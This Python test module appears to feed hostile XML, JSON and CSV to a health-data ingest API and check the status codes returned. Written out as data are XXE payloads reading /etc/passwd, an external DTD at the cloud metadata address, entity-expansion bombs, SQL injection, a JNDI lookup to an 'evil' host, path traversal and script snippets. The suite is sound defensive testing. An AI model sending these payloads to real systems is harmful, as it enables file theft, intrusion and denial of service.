"""Hostile XML, JSON and CSV: tricks of parsers, numbers and dates beyond every range, letters that deceive."""

# ruff: noqa: E501 - tables, one case a line

import codecs
import json
from typing import Any

from tests.integration.ingest.hostile import (
    ADX,
    ANY,
    CLOUDEVENT,
    CSV,
    DHIS2,
    EVENTS,
    FHIR,
    FHIR_JSON,
    IMPORT,
    JSON,
    NDJSON,
    XML,
    Attack,
    Body,
    post,
)

BROKEN, FORMAT, LARGE, TAKEN, ASKED = (
    "malformed_body",
    "unsupported_format",
    "body_too_large",
    "taken",
    "unsupported_request",
)
VALUE = '<dataValue dataElement="SddDuocDo01" orgUnit="06208" period="202409" value="9"/>'
GOOD_XML = f"<dataValueSet>{VALUE}</dataValueSet>"
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
DTD = '<!DOCTYPE d [<!ENTITY l0 "ha">%s]><dataValueSet>%s</dataValueSet>'
XINCLUDE = (
    '<dataValueSet xmlns:i="http://www.w3.org/2001/XInclude"><i:include href="file:///etc/passwd"/></dataValueSet>'
)
UTF7 = codecs.encode('<!DOCTYPE d SYSTEM "file:///etc/passwd"><dataValueSet/>', "utf-7")


def _many_attributes() -> bytes:
    return b"<dataValueSet " + b" ".join(b"a%d=''" % number for number in range(100_000)) + b"/>"


def declared(encoding: str, text: str = GOOD_XML) -> str:
    return f'<?xml version="1.0" encoding="{encoding}"?>{text}'


_XML: list[tuple[str, Body, int | tuple[int, ...], str]] = [
    ("a DOCTYPE", f"<!DOCTYPE d>{GOOD_XML}".encode(), 400, BROKEN),
    ("billion laughs", (DTD % (LAUGHS, "&l9;")).encode(), 400, BROKEN),
    ("quadratic blow-up", (DTD % (f'<!ENTITY q "{"x" * 50_000}">', "&q;" * 5_000)).encode(), 400, BROKEN),
    ("an external entity", (DTD % ('<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;")).encode(), 400, BROKEN),
    ("an external DTD", f'<!DOCTYPE d SYSTEM "http://169.254.169.254/x.dtd">{GOOD_XML}'.encode(), 400, BROKEN),
    ("a parameter entity", (DTD % ('<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;', "")).encode(), 400, BROKEN),
    ("attributes by DTD", (DTD % ('<!ATTLIST dataValue value CDATA "9">', VALUE)).encode(), 400, BROKEN),
    ("a small doctype", f"<!doctype d>{GOOD_XML}".encode(), 400, BROKEN),
    ("a DOCTYPE behind 70 KB of comment", f"<!--{'x' * 70_000}--><!DOCTYPE d>{GOOD_XML}".encode(), 400, BROKEN),
    ("a DOCTYPE in UTF-16", f"<!DOCTYPE d>{GOOD_XML}".encode("utf-16"), 400, BROKEN),
    ("a DOCTYPE in UTF-16 without mark", f"<!DOCTYPE d>{GOOD_XML}".encode("utf-16-le"), 400, BROKEN),
    ("a DOCTYPE in UTF-7", declared("utf-7", "").encode() + UTF7, 400, BROKEN),
    ("UTF-16 that says UTF-8", declared("utf-8").encode("utf-16"), (400, 202), ""),
    ("UTF-8 that says UTF-16", declared("utf-16").encode(), 400, BROKEN),
    ("an encoding of XML that nobody knows", declared("x-evil").encode(), 400, BROKEN),
    ("EBCDIC", declared("cp037").encode("cp037"), (400, 415), ""),
    ("UTF-32", declared("utf-32").encode("utf-32"), (400, 415), ""),
    ("an XInclude", XINCLUDE.encode(), (200, 422), ""),
    ("a style sheet", f'<?xml-stylesheet href="http://evil/x.xsl"?>{GOOD_XML}'.encode(), (200, 202), TAKEN),
    ("XML of 100,000 levels", b"<dataValueSet>" + b"<a>" * 100_000, 400, BROKEN),
    ("XML of 100,000 attributes", _many_attributes, 400, BROKEN),
    ("XML with a name of 2 MB", b"<dataValueSet><" + b"a" * 2_000_000, 400, BROKEN),
    ("XML with a value of 2 MB", f'<dataValueSet><dataValue value="{"9" * 2_000_000}"/></dataValueSet>'.encode(), 400, BROKEN),
    ("an endless comment", b"<dataValueSet><!--" + b"-x" * 1_000_000, 400, BROKEN),
    ("an attribute given twice", b'<dataValueSet><dataValue value="1" value="2"/></dataValueSet>', 400, BROKEN),
    ("a reference to NUL", b'<dataValueSet><dataValue value="&#0;"/></dataValueSet>', 400, BROKEN),
    ("an unknown entity", b'<dataValueSet><dataValue value="&evil;"/></dataValueSet>', 400, BROKEN),
    ("two roots", f"{GOOD_XML}{GOOD_XML}".encode(), 400, BROKEN),
    ("XML cut off", GOOD_XML[:-20].encode(), 400, BROKEN),
    ("XML with NUL bytes", GOOD_XML.replace("9", "\0").encode(), (400, 415), ""),
    ("a web page", b"<!DOCTYPE html><html><script>alert(1)</script></html>", 415, FORMAT),
    ("an SVG", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', 415, FORMAT),
    ("SOAP", b"<soap:Envelope xmlns:soap='x'><soap:Body/></soap:Envelope>", 415, FORMAT),
    ("a million empty elements", b"<dataValueSet>" + b"<a/>" * 250_000 + b"</dataValueSet>", 400, BROKEN),
]  # fmt: skip

EVENT: dict[str, Any] = {
    "id": "h1", "commune": "06208", "indicator": "stunting_u5", "period": "2024-09", "numerator": 1, "denominator": 9,
    "observed_at": "2024-10-01T00:00:00Z",
}  # fmt: skip


def event(**fields: Any) -> bytes:
    return json.dumps(EVENT | fields).encode()


def with_text(name: str, written: str) -> bytes:
    """The event with a field written just so."""
    known = json.dumps(EVENT | {name: "HERE"})
    return known.replace('"HERE"', written).encode("utf-8", "surrogateescape")


NEST = "[" * 100_000
_EVENTS: list[tuple[str, Body, int | tuple[int, ...], str]] = [
    ("a nest of 100,000 arrays", NEST.encode(), 400, BROKEN),
    ("a nest of 100,000 objects", ('{"a":' * 100_000).encode(), 400, BROKEN),
    ("a nest that is closed", f'{{"note":{NEST}{"]" * 100_000}}}'.encode(), 400, BROKEN),
    ("50,000 keys", json.dumps(EVENT | {f"k{n}": n for n in range(50_000)}).encode(), 422, "wrong_type"),
    ("a key given twice", event()[:-1] + b',"numerator":9}', 400, BROKEN),
    ("a key given twice, once escaped", event()[:-1] + b',"numer\\u0061tor":9}', 400, BROKEN),
    ("1e400", with_text("numerator", "1e400"), (400, 422), ""),
    ("NaN", with_text("numerator", "NaN"), (400, 422), ""),
    ("Infinity", with_text("numerator", "Infinity"), (400, 422), ""),
    ("a number of 10,000 digits", with_text("numerator", "9" * 10_000), (400, 422), ""),
    ("minus zero", with_text("numerator", "-0"), (202, 422), ""),
    ("minus one", event(numerator=-1), 422, "negative_number"),
    ("more than all", event(numerator=10**18), 422, ""),
    ("a number in quotes", event(numerator="१२"), 422, ""),
    ("an object for a number", event(numerator={"$gt": 0}), 422, "wrong_type"),
    ("an array for a code", event(commune=["06208"]), 422, "wrong_type"),
    ("half a surrogate pair", with_text("id", '"b\\ud800"'), 400, BROKEN),
    ("a NUL in an id", with_text("id", '"b\\u0000c"'), 422, ""),
    ("a NUL byte", with_text("id", '"b\0c"'), (400, 422), ""),
    ("an id that is no UTF-8", with_text("id", '"b\udcff"'), (400, 422), ""),
    ("overlong UTF-8", with_text("id", '"b\udcc0\udcaf"'), (400, 422), ""),
    ("an id of 100,000 letters", event(id="x" * 100_000), 422, ""),
    ("SQL for an id", event(id="'; DROP TABLE ingest.journal; --"), 202, TAKEN),
    ("SQL for a code", event(commune="' OR '1'='1"), 422, "unknown_commune"),
    ("a template for a code", event(commune="${jndi:ldap://evil/x}"), 422, "unknown_commune"),
    ("a line break in an id", event(id="a\r\nX: y"), 422, ""),
    ("a bell in an id", event(id="a\x07\x1b[31m"), 422, ""),
    ("letters from right to left in an id", event(id="a\u202egpj.exe"), 422, ""),
    ("a space of no width in a code", event(commune="06208\u200b"), 422, "unknown_commune"),
    ("digits of another script", event(commune="०६२०८"), 422, "unknown_commune"),
    ("an emoji for an indicator", event(indicator="🦠"), 422, "unknown_indicator"),
    ("a source of somebody else", event(source="bhxh"), 422, "source_not_allowed"),
    ("a prototype", json.dumps(EVENT | {"__proto__": {"admin": True}}).encode(), (202, 422), ""),
    ("year 0", event(period="0000-01"), 422, "bad_period"),
    ("year 9999", event(period="9999"), 422, "commune_not_valid_then"),
    ("year 10000", event(period="10000-01"), 422, "bad_period"),
    ("30 February", event(period="2024-02-30/2024-03-30"), 422, "bad_period"),
    ("month 13", event(period="2024-13"), 422, "bad_period"),
    ("week 54", event(period="2024W54"), 422, "bad_period"),
    ("9999 years", event(period="0001-01-01/P9999Y"), 422, "commune_not_valid_then"),
    ("10**30 months", event(period=f"2024-01-01/P1{'0' * 30}M"), 422, "bad_period"),
    ("a period backwards", event(period="2024-03-01/2024-01-01"), 422, "bad_period"),
    ("a period of 100,000 letters", event(period="2024-" * 20_000), 422, "bad_period"),
    ("observed in year 0", event(observed_at="0000-01-01T00:00:00Z"), 422, ""),
    ("observed in year 1, east", event(observed_at="0001-01-01T00:00:00+14:00"), 422, "bad_observed_at"),
    ("observed in year 9999, west", event(observed_at="9999-12-31T23:59:59-14:00"), 422, ""),
    ("observed in year 10000", event(observed_at="10000-01-01T00:00:00Z"), 422, ""),
    ("observed on 30 February", event(observed_at="2024-02-30T00:00:00Z"), 422, ""),
    ("observed in a leap second", event(observed_at="2016-12-31T23:59:60Z"), (202, 422), ""),
    ("observed at +24:00", event(observed_at="2024-10-01T00:00:00+24:00"), 422, ""),
    ("observed at a number", event(observed_at=1e300), 422, ""),
    ("evidence of a script", event(evidence={"uri": "javascript:alert(1)"}), (202, 422), ""),
]  # fmt: skip


def value(**fields: Any) -> bytes:
    known = {"dataElement": "SddDuocDo01", "orgUnit": "06208", "period": "202409", "value": "9"}
    return json.dumps({"dataValues": [known | fields]}).encode()


def report(**fields: Any) -> dict[str, Any]:
    return {
        "resourceType": "MeasureReport", "status": "complete", "type": "summary", "measure": "http://x/M/stunting_u5",
        "subject": {"identifier": {"value": "06208"}}, "period": {"start": "2024-09-01", "end": "2024-09-30"},
        "date": "2024-10-02", "group": [{"measureScore": {"value": 0.2}}],
    } | fields  # fmt: skip


def nested_extension(depth: int) -> bytes:
    return b'{"resourceType":"MeasureReport","type":"summary","extension":' + b'[{"extension":' * depth


TWICE = b'{"dataValues":[{"dataElement":"SddDuocDo01","value":"1","value":"9","orgUnit":"06208","period":"202409"}]}'
CLOUD = {"specversion": "1.0", "id": "h2", "source": "hmis", "type": "vn.datchuan.report", "data": EVENT}
_DOCUMENTS: list[tuple[str, Body, int | tuple[int, ...], str, str, str]] = [
    ("a value given twice in DHIS2", TWICE, (400, 422), "", JSON, IMPORT),
    ("a head given twice in DHIS2", value()[:-1] + b',"period":"202408","period":"202409"}', 400, BROKEN, JSON, IMPORT),
    ("rows given twice in DHIS2", value()[:-1] + b',"dataValues":[]}', 400, BROKEN, JSON, IMPORT),
    ("a key given twice in FHIR", json.dumps(report()).encode()[:-1] + b',"status":"complete"}', (400, 422), "", FHIR_JSON, FHIR),
    ("a key given twice in a CloudEvent", json.dumps(CLOUD).encode()[:-1] + b',"id":"h3"}', (400, 422), "", CLOUDEVENT, EVENTS),
    ("a CloudEvent in a CloudEvent", json.dumps(CLOUD | {"data": CLOUD}).encode(), 422, "", CLOUDEVENT, EVENTS),
    ("a CloudEvent of a nest", json.dumps(CLOUD)[:-1].encode() + b',"x":' + NEST.encode(), 400, BROKEN, CLOUDEVENT, EVENTS),
    ("a CloudEvent with base64 of nothing", json.dumps(CLOUD | {"data_base64": "%%%"}).encode(), (400, 422), "", CLOUDEVENT, EVENTS),
    ("a CloudEvent of somebody else", json.dumps(CLOUD | {"source": "bhxh"}).encode(), 422, "source_not_allowed", CLOUDEVENT, EVENTS),
    ("FHIR of 100,000 extensions", nested_extension(100_000), 400, BROKEN, FHIR_JSON, FHIR),
    ("FHIR with itself contained", json.dumps(report(subject={"reference": "#a"}, contained=[{"resourceType": "Location", "id": "a", "partOf": {"reference": "#a"}}])).encode(), 422, "", FHIR_JSON, FHIR),
    ("FHIR with a score of 1e400", json.dumps(report()).replace("0.2", "1e400").encode(), (400, 422), "", FHIR_JSON, FHIR),
    ("FHIR with a script for a place", json.dumps(report(subject={"reference": "javascript:x"})).encode(), 422, "", FHIR_JSON, FHIR),
    ("a value of 1e400", value(value="1e400"), 422, "not_a_number", JSON, IMPORT),
    ("a value of NaN", value(value="NaN"), 422, "not_a_number", JSON, IMPORT),
    ("a value of 10**400", value(value="9" * 400), 422, "", JSON, IMPORT),
    ("a value that is an object", value(value={"a": 1}), 422, "wrong_type", JSON, IMPORT),
    ("a value in hexadecimal", value(value="0x10"), 422, "not_a_number", JSON, IMPORT),
    ("digits with underscores", value(value="1_000"), 422, "not_a_number", JSON, IMPORT),
    ("digits of full width", value(value="\uff19"), 422, "not_a_number", JSON, IMPORT),
    ("a period of year 0", value(period="000001"), 422, "bad_period", JSON, IMPORT),
    ("a quarter of 20 digits", value(period="99999999999999999999Q1"), 422, "bad_period", JSON, IMPORT),
    ("updated in year 1, east", value(lastUpdated="0001-01-01T00:00:00+14:00"), 422, "bad_observed_at", JSON, IMPORT),
    ("updated in year 9999, west", value(lastUpdated="9999-12-31T23:59:59-14:00"), 422, "", JSON, IMPORT),
    ("updated in a leap second", value(lastUpdated="2016-12-31T23:59:60Z"), 422, "bad_observed_at", JSON, IMPORT),
    ("values that are no array", b'{"dataValues":{"a":1}}', 400, BROKEN, JSON, IMPORT),
    ("values that are no objects", b'{"dataValues":[1,null,"x",[],true]}', 422, "", JSON, IMPORT),
    ("20,000 bad values", lambda: json.dumps({"dataValues": [{"value": str(n)} for n in range(20_000)]}).encode(), 413, LARGE, JSON, IMPORT),
    ("a deletion of everything", b'{"dataValues":[],"deletion":{"dataSets":["x"]}}', 400, BROKEN, JSON, IMPORT),
    ("JSON with a mark at its beginning", codecs.BOM_UTF8 + value(), (200, 202, 400), "", JSON, IMPORT),
    ("JSON in UTF-16", value().decode().encode("utf-16"), (200, 202), "taken", JSON, IMPORT),
    ("JSON with comments", b"{/*x*/" + value()[1:], (400, 415), "", JSON, IMPORT),
    ("JSON in single quotes", value().replace(b'"', b"'"), (400, 415), "", JSON, IMPORT),
    ("a text for JSON", b'"dataValues"', (400, 415), "", JSON, IMPORT),
    ("blanks only", b" \r\n\t" * 30_000, 400, BROKEN, JSON, IMPORT),
    ("nothing", b"", 400, BROKEN, JSON, IMPORT),
    ("lines of nothing", b"\n" * 900_000, (400, 413, 415), "", NDJSON, EVENTS),
    ("CSV said to be JSON", b"dataelement,period,orgunit,value\nSddDuocDo01,202409,06208,9", 409, "", JSON, DHIS2),
    ("JSON said to be CSV", value(), 415, "", CSV, DHIS2),
    ("XML said to be JSON", GOOD_XML.encode(), 415, "", JSON, DHIS2),
    ("ADX with a value outside of its group", b"<adx><dataValue/></adx>", 400, BROKEN, ADX, IMPORT),
    ("ADX with a group in a group", b"<adx><group><group/></group></adx>", 400, BROKEN, ADX, IMPORT),
    ("CSV of 100,000 columns", b"dataelement,period,orgunit,value" + b",x" * 100_000, 400, BROKEN, CSV, IMPORT),
    ("CSV with a row of 100,000 fields", b"dataelement,period,orgunit,value\n" + b"9," * 100_000, 422, "", CSV, IMPORT),
    ("CSV in one line of 900 KB", b"dataelement" * 80_000, (400, 415), "", CSV, IMPORT),
    ("CSV with a quote never closed", b'dataelement,period,orgunit,value\n"' + b"x\n" * 100_000, 400, BROKEN, CSV, IMPORT),
    ("CSV with NUL bytes", b"dataelement,period,orgunit,value\n\0,1,2,3", (400, 415), "", CSV, IMPORT),
    ("CSV of another encoding", b"dataelement,period,orgunit,value\n\xff\xfe,1,2,3", 400, BROKEN, CSV, IMPORT),
    ("CSV with a column twice", b"dataelement,period,orgunit,value,value\n1,2,3,4,5", 400, BROKEN, CSV, IMPORT),
    ("CSV of separators", b";" * 500_000, (400, 415), "", CSV, IMPORT),
    ("CSV with every row too long", b"dataelement,period,orgunit,value\n" + b"1,2,3,4,5\n" * 20_000, 413, LARGE, CSV, IMPORT),
    ("UTF-16 cut in a sign", "dataelement,period".encode("utf-16")[:-1], 400, BROKEN, CSV, IMPORT),
    ("a secret parameter", value(), 409, ASKED, JSON, f"{IMPORT}?admin=true"),
    ("a parameter twice", value(), 409, ASKED, JSON, f"{IMPORT}?dryRun=true&dryRun=false"),
    ("SQL in a parameter", value(period=""), 422, "bad_period", JSON, f"{IMPORT}?period=%27%3BDROP"),
    ("a form with a path for a name", b"a;b\n1;2", 409, ASKED, CSV, f"{IMPORT}?form=../../etc/passwd"),
    ("bytes said to be anything", value(), (200, 202), TAKEN, ANY, IMPORT),
]  # fmt: skip

ATTACKS: list[Attack] = [
    *(post(name, body, status, reason, XML) for name, body, status, reason in _XML),
    *(post(name, body, status, reason, JSON, EVENTS) for name, body, status, reason in _EVENTS),
    *(post(name, body, status, reason, kind, path) for name, body, status, reason, kind, path in _DOCUMENTS),
]
